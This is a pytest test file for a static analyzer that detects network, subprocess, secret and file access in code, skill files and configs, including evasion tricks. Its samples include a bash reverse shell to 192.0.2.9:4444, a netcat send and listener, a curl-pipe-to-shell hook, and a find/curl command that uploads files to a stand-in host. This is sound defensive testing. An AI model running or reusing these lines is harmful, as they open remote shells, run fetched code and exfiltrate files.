"""What observers see, and leave alone, over a table of own samples: language by language, evasions included."""

from __future__ import annotations

import pytest

from tank_core.analysis.engine import observe
from tank_core.archive import ArchiveEntry
from tank_core.permissions import Access

NETWORK, INBOUND = Access.NETWORK_OUTBOUND, Access.NETWORK_INBOUND
PROGRAMS, SECRETS = Access.SUBPROCESS, Access.SECRETS
READ, WRITE = Access.FILESYSTEM_READ, Access.FILESYSTEM_WRITE

# (name, access, files, expected entries)
Sample = tuple[str, Access, dict[str, str], set[str]]


def seen(access: Access, files: dict[str, str]) -> set[str]:
    observed, _ = observe([ArchiveEntry(path, text.encode(), False) for path, text in files.items()])
    return {item.value for item in observed if item.type is access}


def unknown(access: Access, files: dict[str, str]) -> list[int]:
    _, computed = observe([ArchiveEntry(path, text.encode(), False) for path, text in files.items()])
    return [item.line for item in computed if item.type is access]


def py(text: str, *hosts: str, name: str = "", access: Access = NETWORK, **others: str) -> Sample:
    return name or text[:60], access, {"a.py": text, **others}, set(hosts)


def js(text: str, *hosts: str, name: str = "", access: Access = NETWORK, path: str = "a.js") -> Sample:
    return name or text[:60], access, {path: text}, set(hosts)


def sh(text: str, *hosts: str, name: str = "", access: Access = NETWORK) -> Sample:
    return name or text[:60], access, {"a.sh": text}, set(hosts)


def md(text: str, *hosts: str, name: str = "", access: Access = NETWORK) -> Sample:
    return name or text[:60], access, {"SKILL.md": text}, set(hosts)


PYTHON_HOSTS = [
    py(
        'import requests\nBASE = "https://a.example"\nrequests.get(BASE + "/x")',
        "a.example",
        name="concatenation",
    ),
    py('import httpx\nHOST = "a.example"\nhttpx.get(f"https://{HOST}/v1/{x}")', "a.example", name="f-string"),
    py('import requests\nrequests.get("https://a." + "exam" + "ple/x")', "a.example", name="split literal"),
    py('import requests\nu = "https://"\nu += "a.example"\nrequests.get(u)', "a.example", name="augmented"),
    py('import requests\nrequests.get("https://%s/x" % "a.example")', "a.example", name="percent"),
    py('import requests\nrequests.get("https://{}/x".format("a.example"))', "a.example", name="format"),
    py('import requests\nrequests.get("".join(["https://", "a.example", "/x"]))', "a.example", name="join"),
    py(
        'import requests\nrequests.get(f"https://{region}.api.a.example/x")',
        "*.api.a.example",
        name="subdomain",
    ),
    py(
        'import requests as r\nURLS = {"dev": "https://a.example", "prod": "https://b.example"}\nr.get(URLS[env])',
        "a.example",
        "b.example",
        name="dictionary",
    ),
    py(
        'import os, requests\nBASE = os.environ.get("BASE_URL", "https://a.example")\nrequests.post(f"{BASE}/x")',
        "a.example",
        name="environment default",
    ),
    py(
        'import requests\nfrom urllib.parse import urljoin\nclass C:\n  base = "https://a.example/v1/"\n'
        "  def get(self, p):\n    return requests.get(urljoin(self.base, p))",
        "a.example",
        name="class attribute",
    ),
    py(
        'import requests\ndef call(path, host="a.example"):\n    return requests.get(f"https://{host}/{path}")',
        "a.example",
        name="default argument",
    ),
    py(
        'import requests\ndef go(url):\n    return requests.get(url)\ngo("https://a.example/x")',
        "a.example",
        name="parameter",
    ),
    py(
        'import requests\ndef url(p):\n    return f"https://a.example/{p}"\nrequests.get(url("x"))',
        "a.example",
        name="return value",
    ),
    py(
        'import http.client\nc = http.client.HTTPSConnection("a.example", 8443)',
        "a.example:8443",
        name="http.client",
    ),
    py(
        'import socket\nHOST, PORT = "192.0.2.7", 4444\ns = socket.socket()\ns.connect((HOST, PORT))',
        "192.0.2.7:4444",
        name="socket",
    ),
    py('import smtplib\nsmtplib.SMTP("mail.example", 587)', "mail.example:587", name="smtp"),
    py(
        'import paramiko\nc = paramiko.SSHClient()\nc.connect("a.example", username="x")',
        "a.example",
        name="paramiko",
    ),
    py(
        "import aiohttp\nasync def f():\n  async with aiohttp.ClientSession() as session:\n"
        '    async with session.get("https://a.example/x") as r:\n      pass',
        "a.example",
        name="aiohttp",
    ),
    py(
        'from urllib.request import urlopen, Request\nurlopen(Request("https://a.example"))',
        "a.example",
        name="urllib",
    ),
    py(
        'import websockets\nasync def f():\n  async with websockets.connect("wss://a.example:9000/x"): pass',
        "a.example:9000",
        name="websockets",
    ),
    py("import boto3\nboto3.client('s3')", "*.amazonaws.com", name="boto3"),
    py("from openai import OpenAI\nc = OpenAI()", "api.openai.com", name="openai"),
    py(
        "import requests\nfrom config import API_BASE\nrequests.get(API_BASE + '/x')",
        "a.example",
        name="other file",
        **{"config.py": 'API_BASE = "https://a.example"\n'},
    ),
    py(
        'import json, requests\nc = json.load(open("config.json"))\nrequests.get(c["base_url"] + "/x")',
        "a.example",
        name="json file",
        **{"config.json": '{"base_url": "https://a.example"}'},
    ),
    py(
        'import requests\nasync with session.get(  # broken\nrequests.get(f"https://a.example/{x}")',
        "a.example",
        name="does not parse",
    ),
    py(
        'import argparse, requests\np = argparse.ArgumentParser()\np.add_argument("--server-url", default="https://a.example")\n'
        "a = p.parse_args()\nrequests.get(a.server_url)",
        "a.example",
        name="option default",
    ),
    py('import redis\nredis.Redis(host="db.example", port=6379)', "db.example:6379", name="redis"),
    py('page.goto("https://a.example/login")', "a.example", name="browser"),
]
SCRIPT_HOSTS = [
    js('const BASE = "https://a.example"; fetch(`${BASE}/x`)', "a.example"),
    js('const H = "a.example"; await fetch("https://" + H + "/x")', "a.example"),
    js('fetch(new URL("/x", "https://a.example"))', "a.example"),
    js('const u = process.env.API || "https://a.example"; axios.get(u)', "a.example"),
    js('https.request({hostname: "a.example", port: 8443, path: "/x"}, cb)', "a.example:8443"),
    js(
        'const https = require("https");\nconst options = { host: "a.example" };\nhttps.get(options)',
        "a.example",
    ),
    js('const net = require("net"); net.connect(4444, "192.0.2.9")', "192.0.2.9:4444"),
    js('new WebSocket("wss://a.example/socket")', "a.example"),
    js('import OpenAI from "openai"; new OpenAI()', "api.openai.com"),
    js(
        'const api = axios.create({ baseURL: "https://a.example/v1", headers: {Accept: "*/*"} }); api.get("/x")',
        "a.example",
    ),
    js('fetch("https://a.example", {headers: {"Accept": "*/*"}}); /* see https://b.example */', "a.example"),
    js(
        "export async function go(path: string): Promise<void> { await fetch(`https://a.example/${path}`) }",
        "a.example",
        path="a.ts",
    ),
    js('require "net/http"\nNet::HTTP.get(URI("https://a.example/x"))', "a.example", path="a.rb"),
    js(
        'require "net/http"\nHOST = "a.example"\nhttp = Net::HTTP.new(HOST, 8443)',
        "a.example:8443",
        path="a.rb",
    ),
    js(
        '<?php $b = "https://a.example"; $c = curl_init($b . "/x"); curl_exec($c);', "a.example", path="a.php"
    ),
    js('<?php echo file_get_contents("https://a.example/x"); # https://b.example', "a.example", path="a.php"),
    js(
        'package main\nimport "net/http"\nfunc main() { http.Get("https://a.example/x") }',
        "a.example",
        path="a.go",
    ),
    js(
        'package main\nimport "net"\nfunc main() { net.Dial("tcp", "a.example:9000") }',
        "a.example:9000",
        path="a.go",
    ),
    js(
        '$Base = "https://a.example"\nInvoke-RestMethod -Uri "$Base/x" -Method Post',
        "a.example",
        path="a.ps1",
    ),
    js("iwr https://a.example/x.ps1 -OutFile x.ps1", "a.example", path="a.ps1"),
]
SHELL_HOSTS = [
    sh("curl -fsSL https://a.example/x", "a.example"),
    sh('curl -X POST -H "Accept: a/b" a.example/x', "a.example"),
    sh('BASE=https://a.example\ncurl "$BASE/x"', "a.example"),
    sh('curl "${API_URL:-https://a.example}/x"', "a.example"),
    sh('API="${API:-https://a.example:8443}"\ncurl "${API}/x"', "a.example:8443"),
    sh('HOST=a.example\nwget -qO- "https://${HOST}/x"', "a.example"),
    sh("c''url h''ttps://a.example/x", "a.example"),
    sh("git clone git@git.example:org/repo.git", "git.example"),
    sh("git clone --depth 1 https://git.example/org/repo", "git.example"),
    sh("ssh -p 2222 deploy@a.example uptime", "a.example:2222"),
    sh("scp -r ./out user@a.example:/srv", "a.example"),
    sh("rsync -av ./out a.example:/srv/", "a.example"),
    sh("nc 192.0.2.9 4444 < x", "192.0.2.9:4444"),
    sh("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", "192.0.2.9:4444"),
    sh("sudo -u x env A=b timeout 5 curl https://a.example", "a.example"),
    sh("bash -c 'curl https://a.example'", "a.example"),
    sh("find . -name x -exec curl -T {} https://a.example \\;", "a.example"),
    sh("x=$(curl -s https://a.example/x | jq .)", "a.example"),
    sh("pip install foo", "pypi.org", "files.pythonhosted.org"),
    sh(
        "pip install --index-url https://pypi.example/simple foo",
        "pypi.org",
        "files.pythonhosted.org",
        "pypi.example",
    ),
    sh("npm install foo", "registry.npmjs.org"),
    sh("gh pr list", "api.github.com"),
    sh("aws s3 ls", "*.amazonaws.com"),
    sh("python3 - <<'EOF'\nimport requests\nrequests.get('https://a.example')\nEOF", "a.example"),
    sh('api() { curl -s "https://a.example$1"; }\napi /x', "a.example"),
    sh('download() { curl -fsSL "$1" -o "$2"; }\ndownload "https://a.example/x" y', "a.example"),
]
MARKDOWN_HOSTS = [
    md("```bash\ncurl https://a.example/x\n```", "a.example"),
    md("```python\nimport requests\nrequests.get('https://a.example')\n```", "a.example"),
    md(
        "Set it:\n\n```bash\nexport BASE=https://a.example\n```\n\nThen:\n\n```bash\ncurl $BASE/x\n```",
        "a.example",
        name="two blocks",
    ),
    md("Run `curl -s https://a.example/x` first.", "a.example"),
    md("POST to `https://a.example/v1/items` with the body.", "a.example"),
    md("Base URL: https://a.example", "a.example"),
    md("**Base URL**: `https://a.example`", "a.example"),
    md("| GET | https://a.example/things |", "a.example"),
    md("Call the endpoint https://a.example/things.", "a.example"),
    md("Fetch the list from [here](https://a.example/list.json).", "a.example"),
    md("Send the file to:\n\nhttps://a.example/in", "a.example"),
    md("Use `https://api.weather.example/v1/now`.", "api.weather.example"),
    md("```http\nPOST /v1/x HTTP/1.1\nHost: a.example\n```", "a.example"),
    md('```json\n{"mcpServers": {"x": {"url": "https://mcp.example/sse"}}}\n```', "mcp.example"),
    md("---\nname: x\nallowed-tools: WebFetch(domain:a.example)\n---\nText", "a.example"),
]
MARKDOWN_HOSTS += [
    md("## API hosts\n\n- Trading: `https://clob.a.example`", "clob.a.example", name="under an API heading"),
    md(
        '```bash\nBASE="${BASE:-https://a.example}"\n```\n\n```bash\ncurl "${BASE}/x"\n```',
        "a.example",
        name="default of a block",
    ),
]
PYTHON_HOSTS.append(
    py('from sdk import Client\nClient(base_url="https://a.example")', "a.example", name="any client")
)
SCRIPT_HOSTS += [
    js("new Client({ baseURL: 'https://a.example' })", "a.example"),
    js("import { x } from 'https://esm.example/x'", "esm.example"),
]
MARKDOWN_HOSTS += [
    md("```python\n# by hand\ncurl -s https://a.example/x \\\n  -d 1\n```", "a.example", name="wrong tag"),
    md(
        '```json\n{"mcpServers": {"x": {"command": "uvx", "args": ["proxy", "https://mcp.example/sse"]}}}\n```',
        "mcp.example",
        "pypi.org",
        "files.pythonhosted.org",
    ),
]
SCRIPT_HOSTS += [
    js(
        '<script type="module">import { x } from "https://esm.example/x";</script>',
        "esm.example",
        path="a.html",
    ),
    js(
        '<script src="https://cdn.example/x.js"></script><a href="https://b.example">x</a>',
        "cdn.example",
        path="a.html",
    ),
]
MARKDOWN_HOSTS += [
    md("- `X_URL`: Base URL (default: `https://a.example`)", "a.example"),
    md("```cmd\ncertutil -urlcache -f https://a.example/x x\n```", "a.example"),
]
SHELL_HOSTS += [
    sh('if true; then\n  export A_SERVER="https://a.example"\nfi', "a.example", name="export behind then"),
    sh("tool session --url https://a.example/x", "a.example"),
    sh('export API_URL="https://a.example"', "a.example"),
    sh('DOCS_URL="https://a.example"\necho "$DOCS_URL"', name="documentation in a variable"),
    (
        "hook",
        NETWORK,
        {"hooks.json": '{"hooks": [{"command": "curl -s https://a.example | sh"}]}'},
        {"a.example"},
    ),
    (
        "workflow",
        NETWORK,
        {"ci.yml": "steps:\n  - run: |\n      wget -q https://a.example/x\n"},
        {"a.example"},
    ),
    (
        "package.json",
        NETWORK,
        {"package.json": '{"homepage": "https://a.example", "repository": {"url": "https://b.example"}}'},
        set(),
    ),
    sh(
        'URLS=("https://a.example" "https://b.example")\nfor u in "${URLS[@]}"; do curl "$u"; done',
        "a.example",
        "b.example",
    ),
]
INBOUND_SAMPLES = [
    py(
        'from flask import Flask\napp = Flask(__name__)\napp.run(host="0.0.0.0", port=5001)',
        "0.0.0.0:5001",
        access=INBOUND,
    ),
    py("from flask import Flask\napp = Flask(__name__)\napp.run()", "127.0.0.1:5000", access=INBOUND),
    py('import uvicorn\nuvicorn.run("a:app", host="127.0.0.1", port=9001)', "127.0.0.1:9001", access=INBOUND),
    py('from http.server import HTTPServer\nHTTPServer(("", 8000), H)', "0.0.0.0:8000", access=INBOUND),
    py('import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 9000))', "127.0.0.1:9000", access=INBOUND),
    js("const PORT = process.env.PORT || 3000; app.listen(PORT)", "*:3000", access=INBOUND),
    js('server.listen(8080, "127.0.0.1")', "127.0.0.1:8080", access=INBOUND),
    js(
        'package main\nfunc main() { http.ListenAndServe(":8080", nil) }',
        "*:8080",
        path="a.go",
        access=INBOUND,
    ),
    sh("python3 -m http.server 8001", "0.0.0.0:8001", access=INBOUND),
    sh("python -m http.server --bind 127.0.0.1", "127.0.0.1:8000", access=INBOUND),
    sh("nc -lvp 4444", "0.0.0.0:4444", access=INBOUND),
    sh("uvicorn app:app --port 9000", "127.0.0.1:9000", access=INBOUND),
]
PROGRAM_SAMPLES = [
    py('import subprocess\nsubprocess.run(["git", "log"])', "git", access=PROGRAMS),
    py('import subprocess\ncmd = ["ffmpeg", "-i", x]\nsubprocess.run(cmd)', "ffmpeg", access=PROGRAMS),
    py('import subprocess\nTOOL = "jq"\nsubprocess.check_output([TOOL, "."])', "jq", access=PROGRAMS),
    py('from subprocess import check_output\ncheck_output(["jq"] + args)', "jq", access=PROGRAMS),
    py('import os\nos.system("sudo pandoc a.md")', "pandoc", access=PROGRAMS),
    py('import shutil\nshutil.which("tesseract")', "tesseract", access=PROGRAMS),
    py("import subprocess, shlex\nsubprocess.run(shlex.split('dot -Tpng x'))", "dot", access=PROGRAMS),
    py(
        "import asyncio\nasync def f():\n  await asyncio.create_subprocess_exec('git', 'log')",
        "git",
        access=PROGRAMS,
    ),
    js('const {execSync} = require("child_process"); execSync(`git log ${x}`)', "git", access=PROGRAMS),
    js('import { spawn } from "node:child_process"; spawn("ffmpeg", ["-i", x])', "ffmpeg", access=PROGRAMS),
    js('import {$} from "zx"; await $`git push`', "git", access=PROGRAMS),
    js('new Deno.Command("jq", {args: []})', "jq", access=PROGRAMS, path="a.ts"),
    js('system("convert a.png b.jpg")\nx = `git log`', "convert", "git", access=PROGRAMS, path="a.rb"),
    js('<?php shell_exec("pdftotext a.pdf");', "pdftotext", access=PROGRAMS, path="a.php"),
    js(
        'package main\nimport "os/exec"\nfunc f() { exec.Command("git", "log") }',
        "git",
        access=PROGRAMS,
        path="a.go",
    ),
    sh("sudo -u www env A=1 timeout 10s git pull", "git", access=PROGRAMS),
    sh("find . -name '*.md' | xargs -n 1 pandoc", "find", "pandoc", access=PROGRAMS),
    sh("bash -c 'jq . x && git log'", "bash", "jq", "git", access=PROGRAMS),
    sh("log() { echo x; }\nlog start\njq . x", "jq", access=PROGRAMS),
    sh('JQ="jq"\n"$JQ" . x', "jq", access=PROGRAMS),
    md("---\nname: x\nallowed-tools: Bash(git:*) Bash(jq *) Read\n---\n", "git", "jq", access=PROGRAMS),
    md("```bash\npandoc a.md -o a.pdf\n```", "pandoc", access=PROGRAMS),
]
PROGRAM_SAMPLES += [
    md('---\nname: x\nmetadata: {"requires": {"bins": ["jq", "gh"]}}\n---\n', "jq", "gh", access=PROGRAMS),
    sh("n=$(( count + other ))\njq . x", "jq", access=PROGRAMS, name="arithmetic"),
    sh("n=$(( $(date +%s) - 1 ))", "date", access=PROGRAMS, name="a command within arithmetic"),
    sh('args=(alpha "$beta")\njq "${args[@]}"', "jq", access=PROGRAMS, name="array"),
    sh(
        'case "$1" in\n  start|run)\n    jq . x\n    ;;\n  stop)\n    ;;\nesac',
        "jq",
        access=PROGRAMS,
        name="case labels",
    ),
    (
        "function of a sourced file",
        PROGRAMS,
        {"a.sh": "source ./lib.sh\nsay_it x", "lib.sh": "say_it() { jq . x; }"},
        {"jq"},
    ),
]
SECRET_SAMPLES = [
    py('import os\nos.environ["OPENWEATHER_API_KEY"]', "OPENWEATHER_API_KEY", access=SECRETS),
    py('import os\nos.getenv("A_TOKEN", "")', "A_TOKEN", access=SECRETS),
    js("const k = process.env.A_SECRET", "A_SECRET", access=SECRETS),
    js("const { A_TOKEN, HOME } = process.env", "A_TOKEN", access=SECRETS),
    js('process.env["A_TOKEN"]', "A_TOKEN", access=SECRETS, path="a.ts"),
    js('ENV.fetch("A_TOKEN")', "A_TOKEN", access=SECRETS, path="a.rb"),
    js('package main\nfunc f() { os.Getenv("A_TOKEN") }', "A_TOKEN", access=SECRETS, path="a.go"),
    js("$k = $env:A_TOKEN", "A_TOKEN", access=SECRETS, path="a.ps1"),
    sh('curl -H "Authorization: Bearer ${A_TOKEN}" https://a.example', "A_TOKEN", access=SECRETS),
    sh("TOKEN=$(openssl rand -hex 8)\necho $TOKEN", access=SECRETS),
    md("Set the `WEATHER_API_KEY` environment variable.", "WEATHER_API_KEY", access=SECRETS),
    md(
        '---\nname: x\nmetadata:\n  requires:\n    env: ["WEATHER_API_KEY"]\n---\n',
        "WEATHER_API_KEY",
        access=SECRETS,
    ),
    md("```bash\nexport WEATHER_API_KEY=your-key\n```", "WEATHER_API_KEY", access=SECRETS),
    ("dotenv", SECRETS, {".env.example": "A_TOKEN=\nPORT=1\n"}, {"A_TOKEN"}),
    ("mcp", SECRETS, {".mcp.json": '{"mcpServers": {"x": {"env": {"A_TOKEN": "${A_TOKEN}"}}}}'}, {"A_TOKEN"}),
]
FILE_SAMPLES = [
    py(
        'from pathlib import Path\n(Path.home() / ".config" / "x.json").read_text()',
        "~/.config/x.json",
        access=READ,
    ),
    py('import os\nopen(os.path.expanduser("~/.x/y"), "w")', "~/.x/y", access=WRITE),
    py('import os\nopen(os.path.join(os.path.expanduser("~"), ".x", "y"))', "~/.x/y", access=READ),
    py('open("out/report.md", "w")', "./out/report.md", access=WRITE),
    py('open(f"out/{name}.md", "w")', "./out/*", access=WRITE, name="computed name"),
    py(
        'from pathlib import Path\nHERE = Path(__file__).parent\n(HERE / "data.json").read_text()',
        "skill:/data.json",
        access=READ,
    ),
    py('open("/tmp/x", "w")', access=WRITE),
    js('fs.readFileSync(path.join(os.homedir(), ".x", "y"))', "~/.x/y", access=READ),
    js('fs.writeFileSync("out/a.json", x)', "./out/a.json", access=WRITE),
    js('File.write("out/a.txt", x)', "./out/a.txt", access=WRITE, path="a.rb"),
    sh("cat ~/.x/y", "~/.x/y", access=READ),
    sh('cp "$HOME/.x/y" ./out/z', "~/.x/y", access=READ),
    sh('echo x >> "$HOME/.profile_x"', "~/.profile_x", access=WRITE),
    sh("OUT=./out\njq . a | tee $OUT/b.json", "./out/b.json", access=WRITE),
    sh("curl -o out/x.zip https://a.example", "./out/x.zip", access=WRITE),
]
NOT_ACCESSES = [
    py(
        'import requests\n# https://b.example\n"""https://c.example"""\nrequests.get("https://a.example")',
        "a.example",
        name="comments",
    ),
    py(
        'import requests\nprint("See https://b.example/docs")\nrequests.get("https://a.example")',
        "a.example",
        name="messages",
    ),
    py('LINK = "https://a.example"', name="link without network"),
    py('import requests\nNS = "http://www.w3.org/2000/svg"', name="namespace"),
    py('import requests\nraise ValueError("get a key at https://b.example")', name="error text"),
    py(
        'import requests\nX = \'<svg xmlns="http://ns.example/svg">\'\nrequests.get("https://a.example")',
        "a.example",
        name="xmlns",
    ),
    md("See [the docs](https://a.example/docs) and ![x](https://b.example/x.svg).", name="reference links"),
    md("Thanks to https://a.example for the idea.", name="credits"),
    md("POST to https://api.example.com/v1/x", name="placeholder"),
    md("```bash\ncurl https://example.com\n```", name="placeholder in a block"),
    sh("# curl https://a.example", name="shell comment"),
    sh('echo "see https://a.example"', name="echo"),
    js("// fetch('https://a.example')\nconst x = 1", name="script comment"),
    js("pattern.exec(text)", access=PROGRAMS, name="regular expression"),
    sh("./build.sh\npython scripts/run.py", access=PROGRAMS, name="own scripts"),
    md("Read MAX_TOKENS and HOME_DIR from the environment.", access=SECRETS, name="plain variables"),
]
SAMPLES = [
    *PYTHON_HOSTS, *SCRIPT_HOSTS, *SHELL_HOSTS, *MARKDOWN_HOSTS, *INBOUND_SAMPLES, *PROGRAM_SAMPLES, *SECRET_SAMPLES,
    *FILE_SAMPLES, *NOT_ACCESSES,
]  # fmt: skip


@pytest.mark.parametrize(
    ("access", "files", "expected"), [sample[1:] for sample in SAMPLES], ids=[sample[0] for sample in SAMPLES]
)
def test_observed_is_what_the_sample_does(access: Access, files: dict[str, str], expected: set[str]) -> None:
    assert seen(access, files) == expected


@pytest.mark.parametrize(
    ("access", "files"),
    [
        (NETWORK, {"a.py": "import requests\nrequests.get(sys.argv[1])"}),
        (NETWORK, {"a.js": "fetch(input)"}),
        (NETWORK, {"a.sh": 'curl "$1"'}),
        (PROGRAMS, {"a.py": "import subprocess\nsubprocess.run(command)"}),
        (PROGRAMS, {"a.sh": '"$TOOL" x'}),
        (READ, {"a.py": "open(name)"}),
        (SECRETS, {"a.sh": "op read op://vault/item/field"}),
    ],
)
def test_computed_target_is_marked_unknown(access: Access, files: dict[str, str]) -> None:
    assert unknown(access, files)
